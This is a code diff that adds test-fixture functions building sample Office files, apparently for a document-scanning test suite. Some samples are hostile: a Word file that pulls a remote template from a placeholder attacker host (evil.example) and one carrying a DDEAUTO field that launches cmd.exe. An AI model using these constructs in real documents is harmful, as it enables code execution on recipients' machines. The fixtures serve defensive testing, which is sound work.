@@ -194,3 +194,43 @@ def named_range_xlsx() -> bytes:
     book["Notes"].title = "Notes (v2)"
     book.defined_names["answers"] = DefinedName("answers", attr_text="'Notes (v2)'!$A$1:$A$3")
     return _saved(book)
+
+
+def remote_template_docx(target: bytes = b"http://evil.example/t.dotm") -> bytes:
+    """A Word file that fetches its template from a server when opened (template injection)."""
+    rels = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="' + target + b'" '
+        b'TargetMode="External"/></Relationships>'
+    )
+    return with_parts(document_with_table(), {"word/_rels/settings.xml.rels": rels})
+
+
+def dde_field_docx() -> bytes:
+    base = document_with_table()
+    with zipfile.ZipFile(io.BytesIO(base)) as source:
+        body = source.read("word/document.xml")
+    field = b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
+    body = body.replace(b"<w:sectPr", field + b"<w:sectPr", 1)
+    return with_parts(base, {}, {"word/document.xml": body})
+
+
+def ole_object_docx() -> bytes:
+    return with_parts(
+        document_with_table(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}
+    )
+
+
+def embedded_workbook_docx() -> bytes:
+    """A chart's data, as Word embeds it: a plain workbook (no macros by its format)."""
+    return with_parts(
+        document_with_table(), {"word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook()}
+    )
+
+
+def hyperlinked_xlsx() -> bytes:
+    book = openpyxl.load_workbook(io.BytesIO(workbook()))
+    book["Questions"]["C2"].hyperlink = "https://example.com/backups"
+    return _saved(book)
